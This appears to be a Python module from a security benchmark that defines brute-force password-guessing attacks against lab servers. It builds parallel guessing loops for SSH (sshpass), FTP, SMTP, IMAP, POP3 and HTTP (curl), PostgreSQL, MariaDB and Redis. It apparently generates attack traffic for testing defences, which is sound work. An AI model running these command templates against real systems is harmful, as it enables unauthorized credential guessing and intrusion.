"""Guessing passwords at real servers."""
from __future__ import annotations

from collections.abc import Callable

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.databases import mariadb, postgres, redis
from benchmarks.attacks.place import ATTACKER, VICTIM, Place
from benchmarks.attacks.servers import dovecot, nginx, smtp, sshd, vsftpd

TIMES = 60


def guess(server: Callable[[Place, str], object], line: str, times: int = TIMES, at_once: int = 4) -> Callable[[Place], None]:
    """Run a shell line for each guess, `$0` being its number, a few at once."""
    def run(place: Place) -> None:
        place.serve(server, "victim")
        place.begins()
        place.fails("attacker", ["sh", "-c", f"seq {times} | xargs -P {at_once} -n 1 sh -c '{line}; true'"], 90)
    return run


SSH = ("sshpass -p guess$0 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=QUIET -o PubkeyAuthentication=no "
       f"-o NumberOfPasswordPrompts=1 root@{VICTIM} true </dev/null; sleep 0.5")


def curl(url: str, more: str = "") -> str:
    """One guess by curl."""
    return f"curl -s -m 10 -o /dev/null -u alice:guess$0 {more} {url}; sleep 0.3"


ATTACKS = (
    Attack("guess-ssh", ("brute_force",), ATTACKER, VICTIM, 90, guess(sshd, SSH), "ssh, sshpass"),
    Attack("guess-ftp", ("brute_force",), ATTACKER, VICTIM, 90, guess(vsftpd, curl(f"ftp://{VICTIM}/")), "curl, vsftpd"),
    Attack("guess-smtp", ("brute_force",), ATTACKER, VICTIM, 90,
           guess(smtp, curl(f"smtp://{VICTIM}:587/a", "--login-options AUTH=PLAIN --mail-from a@example.com --mail-rcpt b@example.com -T /etc/hostname")),
           "curl, aiosmtpd"),
    Attack("guess-imap", ("brute_force",), ATTACKER, VICTIM, 90, guess(dovecot, curl(f"imap://{VICTIM}/INBOX")), "curl, dovecot"),
    Attack("guess-pop3", ("brute_force",), ATTACKER, VICTIM, 90, guess(dovecot, curl(f"pop3://{VICTIM}/")), "curl, dovecot"),
    Attack("guess-http", ("brute_force",), ATTACKER, VICTIM, 90, guess(nginx, curl(f"http://{VICTIM}/private/")), "curl, nginx"),
    Attack("guess-postgres", ("brute_force",), ATTACKER, VICTIM, 90,
           guess(postgres, f"psql \"host={VICTIM} user=alice password=guess$0 dbname=postgres sslmode=disable\" -c \"SELECT 1\"; sleep 0.3"), "psql"),
    Attack("guess-mariadb", ("brute_force",), ATTACKER, VICTIM, 90,
           guess(mariadb, f"mariadb --no-defaults --skip-ssl -h {VICTIM} -u alice -pguess$0 -e \"SELECT 1\"; sleep 0.3"), "mariadb"),
    Attack("guess-redis", ("brute_force",), ATTACKER, VICTIM, 90, guess(redis, f"redis-cli -h {VICTIM} AUTH guess$0; sleep 0.3"), "redis-cli"),
)
